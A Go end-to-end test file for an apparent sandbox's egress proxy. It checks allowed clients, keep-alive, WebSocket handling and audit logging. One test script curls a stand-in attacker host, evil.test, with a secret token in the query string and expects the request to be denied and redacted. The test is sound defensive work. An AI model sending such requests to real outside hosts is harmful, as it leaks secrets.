//go:build linux

package e2e

// Governed egress (network.mode: proxy), end to end: real clients through
// the proxy, and P05, P19–P24 of /work/shared/cases/ADVERSARIAL.md. Every
// upstream is a test server on 127.0.0.0/8 named through the policy's hosts
// map; allow_private lets the proxy dial exactly those loopback endpoints.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/corral-sandbox/corral/qualify"
)

const python = "/usr/bin/python3" // the system's; pyenv shims under /root are not granted

func needTool(t *testing.T, path string) {
	t.Helper()
	if _, err := exec.LookPath(path); err != nil {
		t.Skipf("%s not installed: %v", path, err)
	}
}

// clientsNet allows api.allowed.test (HTTP on 127.0.0.2) and
// tls.allowed.test (HTTPS on 127.0.0.3) on their ports only.
func clientsNet(h, s *qualify.Upstream) qualify.Egress {
	return qualify.Egress{
		Allow: []qualify.Endpoint{ep("api.allowed.test", h.Port), ep("tls.allowed.test", s.Port)},
		Private: []qualify.Endpoint{
			ep(h.IP+"/32", h.Port),
			ep(s.IP+"/32", s.Port),
		},
		Hosts: map[string]string{"api.allowed.test": h.IP, "tls.allowed.test": s.IP},
	}
}

// makeGitRepo creates a bare repository served by git http-backend under
// /git/ of u and returns the canary committed in it.
func makeGitRepo(t *testing.T, u *qualify.Upstream) string {
	t.Helper()
	backend := "/usr/lib/git-core/git-http-backend"
	if _, err := os.Stat(backend); err != nil {
		t.Skipf("git http-backend not available: %v", err)
	}
	root := t.TempDir()
	work := filepath.Join(root, "work")
	canary := token()
	gitc := func(dir string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "user.name=e2e", "-c", "user.email=e2e@example.invalid", "-c", "init.defaultBranch=main"}, args...)...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}
	gitc(work, "init", "-q")
	if err := os.WriteFile(filepath.Join(work, "README"), []byte(canary+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitc(work, "add", "README")
	gitc(work, "commit", "-q", "-m", "e2e")
	gitc(root, "clone", "-q", "--bare", work, filepath.Join(root, "repo.git"))
	u.Mux.Handle("/git/", &cgiHandler{root: root, backend: backend})
	return canary
}

// TestEgressClients: curl, Python urllib, git (smart HTTP over TLS) and
// Node reach allowed upstreams through the proxy with the environment
// corral sets, over plain HTTP (absolute-form) and HTTPS (CONNECT).
func TestEgressClients(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		s := newUpstream(t, "127.0.0.3", 0, true)
		canary := makeGitRepo(t, s)
		caDir, ca := writeCA(t, id)
		n := clientsNet(h, s)
		hURL := "http://" + h.HostPort("api.allowed.test")
		sURL := "https://" + s.HostPort("tls.allowed.test")
		hOK := "upstream-ok " + h.HostPort("api.allowed.test") + " /hello"
		sOK := "upstream-ok " + s.HostPort("tls.allowed.test") + " /hello"
		nodeHTTP := `const http=require('http');const [u,hp]=process.argv.slice(1);
http.get({host:'127.0.0.1',port:3128,path:u,headers:{Host:hp}},r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>console.log('out: '+r.statusCode+' '+b.trim()))}).on('error',e=>console.log('out: error '+e.message));`
		nodeHTTPS := `const http=require('http'),tls=require('tls'),fs=require('fs');const [host,port,ca]=process.argv.slice(1);const t=host+':'+port;
const q=http.request({host:'127.0.0.1',port:3128,method:'CONNECT',path:t,headers:{Host:t}});
q.on('connect',(r,sock)=>{if(r.statusCode!==200){console.log('out: connect '+r.statusCode);sock.destroy();return}
const s=tls.connect({socket:sock,servername:host,ca:fs.readFileSync(ca)},()=>s.write('GET /hello HTTP/1.1\r\nHost: '+t+'\r\nConnection: close\r\n\r\n'));
let b='';s.on('data',d=>b+=d);s.on('end',()=>console.log('out: '+b.split('\r\n')[0]+' '+b.split('\r\n\r\n')[1].trim()));s.on('error',e=>console.log('out: error '+e.message))});
q.on('error',e=>console.log('out: error '+e.message));q.end();`
		pyGet := `import sys,urllib.request
try: print("out: " + urllib.request.urlopen(sys.argv[1], timeout=10).read().decode().strip())
except Exception as e: print("out: error", e)`
		cases := []struct {
			name, tool, script, want string
		}{
			{"curl-http", "curl", fmt.Sprintf("echo \"out: $(curl -sS -m 10 %s/hello 2>&1)\"", hURL), hOK},
			{"curl-https", "curl", fmt.Sprintf("echo \"out: $(curl -sS -m 10 --cacert %s %s/hello 2>&1)\"", ca, sURL), sOK},
			{"python-http", python, fmt.Sprintf("%s -c '%s' %s/hello", python, pyGet, hURL), hOK},
			{"python-https", python, fmt.Sprintf("SSL_CERT_FILE=%s %s -c '%s' %s/hello", ca, python, pyGet, sURL), sOK},
			{"git-https", "git", fmt.Sprintf("cd \"$(mktemp -d)\" && GIT_SSL_CAINFO=%s git clone -q %s/git/repo.git clone 2>&1; echo \"out: $(cat clone/README 2>&1)\"", ca, sURL), canary},
			{"node-http", "node", fmt.Sprintf("node -e \"$1\" %s/hello %s", hURL, h.HostPort("api.allowed.test")), "200 " + hOK},
			{"node-https", "node", fmt.Sprintf("node -e \"$1\" tls.allowed.test %d %s", s.Port, ca), "HTTP/1.1 200 OK " + sOK},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				needTool(t, c.tool)
				script := c.script
				args := ""
				switch c.name {
				case "node-http":
					args = nodeHTTP
				case "node-https":
					args = nodeHTTPS
				}
				wd := mkdir(t, id, "egress")
				pol := writePolicy(t, id, policy{RO: []string{caDir}, Network: "proxy", NetRules: n.YAML()})
				res := corral(t, run{id: id, policy: pol, workdir: wd, args: []string{"/bin/sh", "-c", script, "sh", args}})
				want(t, res, "out", c.want, false)
			})
		}
		t.Run("node-fetch", func(t *testing.T) {
			needTool(t, "node")
			out, err := exec.Command("node", "-p", "process.versions.node").Output()
			if err != nil {
				t.Fatal(err)
			}
			v := strings.TrimSpace(string(out))
			parts := strings.Split(v, ".")
			major, _ := strconv.Atoi(parts[0])
			minor := 0
			if len(parts) > 1 {
				minor, _ = strconv.Atoi(parts[1])
			}
			if major < 22 || major == 22 && minor < 21 || major == 23 {
				t.Skipf("node %s: fetch ignores the proxy environment before Node 24 / 22.21 (NODE_USE_ENV_PROXY, which corral sets, is not implemented); node-http and node-https cover Node through the proxy", v)
			}
			script := fmt.Sprintf(`fetch(%q).then(r=>r.text()).then(b=>console.log('out: '+b.trim()),e=>console.log('out: error '+e.cause))`, hURL+"/hello")
			res, _ := proxyRun(t, id, n, []string{caDir}, nil, "node -e '"+script+"'")
			want(t, res, "out", hOK, false)
		})
	})
}

// cgiHandler serves git http-backend (smart HTTP) for the repositories
// under root, mounted at /git/.
type cgiHandler struct{ root, backend string }

func (g *cgiHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h := &cgi.Handler{Path: g.backend, Root: "/git", Env: []string{"GIT_PROJECT_ROOT=" + g.root, "GIT_HTTP_EXPORT_ALL=1"}}
	h.ServeHTTP(w, r)
}

// TestEgressKeepAlive: 100 requests on one client connection to the proxy
// (Python http.client, absolute-form) all succeed, and the proxy reuses one
// upstream connection for them.
func TestEgressKeepAlive(t *testing.T) {
	needTool(t, python)
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		n := qualify.Egress{Allow: []qualify.Endpoint{ep("api.allowed.test", h.Port)}, Private: []qualify.Endpoint{ep(h.IP+"/32", h.Port)}, Hosts: map[string]string{"api.allowed.test": h.IP}}
		py := `import http.client,sys
hp=sys.argv[1]
c=http.client.HTTPConnection("127.0.0.1",3128,timeout=10)
ok=0
for i in range(100):
    c.request("GET","http://%s/ka/%d"%(hp,i),headers={"Host":hp})
    r=c.getresponse(); b=r.read()
    if r.status==200 and b.startswith(b"upstream-ok"): ok+=1
print("keepalive: %d"%ok)`
		res, _ := proxyRun(t, id, n, nil, []string{"-v"}, fmt.Sprintf("%s -c '%s' %s", python, py, h.HostPort("api.allowed.test")))
		want(t, res, "keepalive", "100", false)
		if got := len(h.Requests()); got != 100 {
			t.Errorf("upstream served %d requests, want 100", got)
		}
		if a := h.Accepts.Load(); a != 1 {
			t.Errorf("upstream accepted %d connections for 100 keep-alive requests, want 1", a)
		}
		if !strings.Contains(res.stderr, "corral: egress: 100 allowed, 0 denied") {
			t.Errorf("-v summary: want \"corral: egress: 100 allowed, 0 denied\"\n%s", res)
		}
	})
}

// TestEgressWebSocket: an RFC 6455 upgrade through the proxy
// (absolute-form request) switches protocols and echoes a frame; a
// WebSocket to a host without an allow rule is refused with 403.
func TestEgressWebSocket(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		evil := newUpstream(t, "127.0.0.4", 0, false)
		n := qualify.Egress{
			Allow:   []qualify.Endpoint{ep("api.allowed.test", h.Port)},
			Private: []qualify.Endpoint{ep(h.IP+"/32", h.Port), ep(evil.IP+"/32", evil.Port)},
			Hosts:   map[string]string{"api.allowed.test": h.IP, "evil.test": evil.IP},
		}
		script := fmt.Sprintf("%s ws %s http://%s/ws; %s ws %s http://%s/ws | sed 's/^ws:/ws-evil:/'",
			probeBin, proxyAddr, h.HostPort("api.allowed.test"), probeBin, proxyAddr, evil.HostPort("evil.test"))
		res, _ := proxyRun(t, id, n, nil, nil, script)
		want(t, res, "ws", "echo opcode=1 corral-ws-echo", false)
		want(t, res, "ws-evil", "status 403", true)
		assertUntouched(t, evil, "the evil upstream")
	})
}

// TestEgressAudit: every decision is an OCSF HTTP Activity event (class
// 4002) in the --audit file, allowed and denied, with the destination and
// without query strings; -v prints the counts and the denials.
func TestEgressAudit(t *testing.T) {
	needTool(t, "curl")
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		s := newUpstream(t, "127.0.0.3", 0, true)
		caDir, ca := writeCA(t, id)
		secret := token()
		logDir := mkdir(t, id, "auditlog")
		logf := filepath.Join(logDir, "audit.jsonl")
		script := fmt.Sprintf(`echo "allowed: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' 'http://%s/a?token=%s-1')"
echo "tls: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' --cacert %s 'https://%s/b?token=%s-2')"
echo "denied: $(curl -sS -m 10 'http://evil.test/c?token=%s-3')"`,
			h.HostPort("api.allowed.test"), secret, ca, s.HostPort("tls.allowed.test"), secret, secret)
		res, _ := proxyRun(t, id, clientsNet(h, s), []string{caDir}, []string{"-v", "--audit", logf}, script)
		assertCode(t, res, 0)
		want(t, res, "allowed", "200", false)
		want(t, res, "tls", "200", false)
		v, _ := lineValue(res.stdout, "denied")
		var body denialBody
		if err := json.Unmarshal([]byte(v), &body); err != nil {
			t.Fatalf("denial body is not JSON: %v: %q\n%s", err, v, res)
		}
		if body.Host != "evil.test" || body.Port != 80 || body.Reason == "" || !strings.Contains(body.Hint, "evil.test") {
			t.Errorf("denial body %+v: want host evil.test, port 80, a reason and a hint naming evil.test", body)
		}
		raw := readFile(t, logf)
		evs := egressEvents(t, logf)
		// (The launch event's cmd_line holds the script itself, secret
		// included; the egress events and the summary must not.)
		for _, e := range evs {
			if strings.Contains(e.raw, secret) {
				t.Errorf("an egress event has the query string's secret: %s", e.raw)
			}
		}
		if strings.Contains(res.stderr, secret) {
			t.Errorf("corral's -v output has the query string's secret:\n%s", res)
		}
		var allowed, tunnel, denied *ocsfEvent
		for i := range evs {
			e := &evs[i]
			switch {
			case e.Dst.Hostname == "api.allowed.test" && e.Action == "Allowed":
				allowed = e
			case e.Dst.Hostname == "tls.allowed.test" && e.Action == "Allowed":
				tunnel = e
			case e.Dst.Hostname == "evil.test" && e.Action == "Denied":
				denied = e
			}
		}
		if allowed == nil || tunnel == nil || denied == nil {
			t.Fatalf("want class 4002 events: Allowed api.allowed.test, Allowed tls.allowed.test (CONNECT), Denied evil.test; got %d events:\n%s", len(evs), raw)
		}
		if allowed.Dst.IP != h.IP || allowed.Dst.Port != h.Port || allowed.HTTPResponse.Code != 200 || allowed.Unmapped.SandboxID == "" || allowed.Unmapped.Rule == "" {
			t.Errorf("allowed event: want ip %s port %d, code 200, a sandbox id and the rule; got %s", h.IP, h.Port, allowed.raw)
		}
		if tunnel.Dst.IP != s.IP || tunnel.Dst.Port != s.Port || tunnel.HTTPRequest.Method != "CONNECT" {
			t.Errorf("CONNECT event: want CONNECT to %s:%d; got %s", s.IP, s.Port, tunnel.raw)
		}
		if denied.ActionID != 2 || denied.HTTPResponse.Code != 403 || denied.Dst.Port != 80 || denied.Unmapped.Reason == "" {
			t.Errorf("denied event: want action_id 2, code 403, port 80 and a reason; got %s", denied.raw)
		}
		if denied.Dst.IP != "" {
			t.Errorf("denied event has a resolved address %q: a denied name must not be resolved", denied.Dst.IP)
		}
		if !strings.Contains(res.stderr, "corral: egress: 2 allowed, 1 denied") || !strings.Contains(res.stderr, "corral: egress: denied 1x evil.test:80") {
			t.Errorf("-v summary: want \"corral: egress: 2 allowed, 1 denied\" and \"denied 1x evil.test:80 ...\"\n%s", res)
		}
	})
}
